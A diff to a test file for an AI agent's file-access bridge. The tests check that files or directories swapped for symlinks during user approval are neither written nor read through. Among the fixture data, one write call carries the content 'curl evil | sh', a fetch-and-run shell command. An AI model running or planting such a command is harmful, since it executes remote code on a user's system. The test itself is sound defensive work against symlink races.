@@ -56,7 +56,7 @@ async def test_a_file_swapped_for_a_link_while_the_user_approves_is_not_written_
     assert bashrc.read_text() == "export SAFE=1\n"
     final = bridge.call_updates("w1")[-1]
     assert final["status"] == "failed"
-    assert "leads outside the workspace" in _text_of(final)
+    assert f"led to {notes} when the user was asked" in _text_of(final)
 
 
 async def test_a_directory_swapped_for_a_link_while_the_user_approves_a_read_is_not_read_through(
@@ -99,7 +99,7 @@ async def test_an_always_allowed_file_that_becomes_a_link_outside_is_never_writt
     answers = iter(["allow_always"])
 
     def answer(session_id: str, tool_call: dict[str, Any], options: Any) -> dict[str, Any]:
-        return selected(next(answers, "allow_once"))  # whatever the policy asks, the user says yes
+        return selected(next(answers, "reject_once"))  # should the policy ask about the link: no
 
     write = {"tool_calls": [_call("w1", "write", file_path="notes.txt", content="first\n")]}
     again = {"tool_calls": [_call("w2", "write", file_path="notes.txt", content="curl evil | sh\n")]}
